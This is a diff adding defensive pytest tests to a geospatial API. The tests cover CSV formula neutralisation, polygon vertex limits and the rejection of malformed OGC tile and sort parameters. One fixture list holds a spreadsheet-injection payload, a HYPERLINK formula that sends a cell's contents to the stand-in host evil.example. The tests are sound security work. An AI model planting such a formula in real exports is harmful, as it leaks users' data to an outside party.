@@ -146,3 +146,92 @@ def test_nul_characters_are_refused_everywhere(world: World):
     check(world.client.get(BASE + "?q=a%00b"), 400)
     check(world.client.get("/api/v1/layers/durian_trees/features/a%00b"), 400)
     assert snapshot(world) == before
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"bấm")', "+84-912", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_downloads_neutralise_formulas(world: World, tmp_path):
+    import csv
+    import io
+
+    from geomap.io.csvcells import neutralise_frame
+    from geomap.io.load import load_file
+
+    for i, text in enumerate(FORMULAS):
+        tree = world.tree_in(slot=i, code=f"T-CSV-{i}", name=text, village=text)
+        assert world.client.post(BASE, json=tree, headers=world.auth("admin")).status_code == 201
+    r = world.client.get("/api/v1/layers/durian_trees/download", params={"format": "csv", "q": "T-CSV"})
+    assert r.status_code == 200
+    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(r.text, newline=""))}
+    assert len(rows) == len(FORMULAS)
+    for i, text in enumerate(FORMULAS):
+        row, stored = rows[f"T-CSV-{i}"], text.strip()  # the API strips surrounding blanks
+        assert row["name"] == "'" + stored and row["village"] == "'" + stored
+        assert float(row["lon"]) > 100 and not row["lon"].startswith("'")  # numbers are left alone
+    # A numeric column keeps its negative numbers; only text cells are quoted.
+    import pandas as pd
+
+    frame = neutralise_frame(pd.DataFrame({"n": [-12.5, 3.0, 1.0], "t": ["-12.5", "ok", "\tcmd"], "u": ["\r=1", None, "a-b"]}))
+    assert frame["n"].tolist() == [-12.5, 3.0, 1.0] and frame["t"].tolist() == ["'-12.5", "ok", "'\tcmd"]
+    assert frame["u"].tolist()[::2] == ["'\r=1", "a-b"]
+    # Loading the download back gives the original text: nothing changes.
+    path = tmp_path / "durian_trees.csv"
+    path.write_text(r.text, encoding="utf-8")
+    [result] = load_file(world.engine, path)
+    assert (result.inserted, result.updated, result.unchanged) == (0, 0, len(FORMULAS))
+
+
+def _circle(n: int, lon: float = 108.36, lat: float = 12.75, r: float = 0.0005) -> dict:
+    import math
+
+    ring = [[round(lon + r * math.cos(2 * math.pi * k / n), 7), round(lat + r * math.sin(2 * math.pi * k / n), 7)] for k in range(n)]
+    return {"type": "Polygon", "coordinates": [ring + [ring[0]]]}
+
+
+def test_vertices_per_geometry_are_bounded(world: World):
+    from geomap.geometry import MAX_VERTICES
+
+    before = snapshot(world)
+    many = _circle(MAX_VERTICES + 500)
+    body = check(world.client.post(FARMS, json=_farm(many), headers=world.auth("admin")), 422, "geometry")
+    assert f"{MAX_VERTICES + 501:,} vertices" in body["detail"] and f"at most {MAX_VERTICES:,}" in body["detail"]
+    batch = {"type": "FeatureCollection", "features": [
+        {**_farm(_circle(40, lon=108.37)), "properties": {**_farm(None)["properties"], "code": "F-OK"}}, _farm(many)]}
+    body = check(world.client.post(FARMS + "/batch", json=batch, headers=world.auth("admin")), 422, "geometry")
+    assert [e["index"] for e in body["errors"]] == [1]
+    assert snapshot(world) == before
+    # A boundary of a few hundred vertices, as surveyed orchards have, is fine.
+    ok = world.client.post(FARMS, json=_farm(_circle(600)), headers=world.auth("admin"))
+    assert ok.status_code == 201, ok.text
+
+
+OGC_500S = [
+    ("/ogc/collections/durian_trees/tiles/EuropeanETRS89_LAEAQuad/0/5/5", "x"),
+    ("/ogc/collections/durian_trees/tiles/NZTM2000Quad/0/5/5", "x"),
+    ("/ogc/collections/durian_trees/tiles/WorldCRS84Quad/99/0/0", "z"),
+    ("/ogc/collections/durian_trees/tiles/WorldCRS84Quad/2/-1/0", "x"),
+    ("/ogc/collections/durian_trees/tiles/WebMercatorQuad/tilejson.json?minzoom=18446744073709551616", "minzoom"),
+    ("/ogc/collections/durian_trees/tiles/WebMercatorQuad/tilejson.json?maxzoom=18446744073709551616", "maxzoom"),
+    ("/ogc/collections/durian_trees/tiles/WebMercatorQuad/style.json?maxzoom=18446744073709551616", "maxzoom"),
+    ("/ogc/collections/durian_trees/items?sortby=-name%0Ax", "sortby"),
+    ("/ogc/collections/durian_trees/items?sortby=na%0Ame", "sortby"),
+    ("/ogc/collections/durian_trees/items?sortby=name%0A", "sortby"),
+]
+
+
+def test_ogc_parameters_that_tipg_cannot_take_are_400(world: World, settings):
+    from fastapi.testclient import TestClient
+
+    from geomap.api.app import create_app
+
+    # Server errors come back as responses here (as a client sees them), not as raised exceptions.
+    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
+        for url, field in OGC_500S:
+            body = check(client.get(url), 400, field)
+            assert field in body["detail"], (url, body)
+            # In range, the same kinds of request work.
+            ok = url.replace("/0/5/5", "/1/0/0").replace("99/0/0", "1/0/0").replace("2/-1/0", "1/0/0")
+            ok = ok.replace("18446744073709551616", "12").replace("-name%0Ax", "-name").replace("na%0Ame", "name")
+            ok = ok.replace("name%0A", "name,-code")
+            assert client.get(ok).status_code == 200, ok
